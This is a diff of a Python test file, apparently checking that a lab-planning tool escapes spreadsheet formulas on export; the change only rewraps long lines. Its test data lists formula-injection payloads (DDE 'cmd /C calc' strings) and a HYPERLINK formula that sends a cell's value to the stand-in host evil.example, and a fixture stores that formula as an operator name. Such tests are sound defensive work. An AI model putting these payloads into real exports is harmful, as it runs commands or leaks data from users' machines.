@@ -30,8 +30,8 @@ from planner.design import space_filling_design
 
 NOTE = "=cmd|' /C calc'!A0"
 OPERATOR = '=HYPERLINK("http://evil.example/steal?x="&A1, "click me")'
-ATTACKS = [NOTE, OPERATOR, "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
-           "\t=1+1", "\r=1+1", "=1+1"]
+ATTACKS = [NOTE, OPERATOR, "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
+           "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]
 HARMLESS = ["ana", "", "LiPF6", "-", "-3.5", "+2", "1e-3", "'=already quoted", " =leading space"]
 
 
@@ -139,8 +139,9 @@ def hostile_db(tmp_path: Path) -> str:
     recipes = space_filling_design(spec, spec.sample_well_count, seed=0).to_dict(orient="records")
     with Store.open(url) as store:
         store.create_campaign(spec)
-        batch = store.save_batch("demo", iso_week="2026-W10", wells=fill_layout(spec.plate, recipes),
-                                 generator="test", seed=0, data_revision=0)
+        batch = store.save_batch("demo", iso_week="2026-W10",
+                                 wells=fill_layout(spec.plate, recipes), generator="test", seed=0,
+                                 data_revision=0)
         for tag, value in (("first", -3.5), ("again", 81.5)):
             rec = MeasurementRecord(well="A2", quantity="ice_pct", value=value, unit="%",
                                     status="ok", operator=OPERATOR, instrument="-ch1",
